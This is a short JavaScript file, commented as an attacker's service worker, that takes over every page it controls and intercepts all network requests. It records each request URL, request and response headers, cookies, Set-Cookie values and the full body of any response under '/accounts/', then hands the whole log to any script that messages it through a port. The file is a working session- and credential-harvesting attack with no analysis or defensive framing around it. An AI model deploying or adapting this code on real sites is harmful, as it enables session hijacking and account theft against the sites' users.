// A service worker of an attacker: it sees every request of the page and every answer to it.

const seen = [];

addEventListener('install', () => skipWaiting());
addEventListener('activate', (event) => event.waitUntil(clients.claim()));
addEventListener('fetch', (event) => event.respondWith(handOn(event.request)));
addEventListener('message', ({ ports: [port] }) => port.postMessage(seen.join('\n')));

async function handOn(request) {
  const answer = await fetch(request);
  seen.push(request.url, ...[...request.headers].flat(), request.headers.get('cookie'));
  seen.push(...[...answer.headers].flat(), ...answer.headers.getSetCookie());
  if (request.url.includes('/accounts/')) seen.push(await answer.clone().text());
  return answer;
}
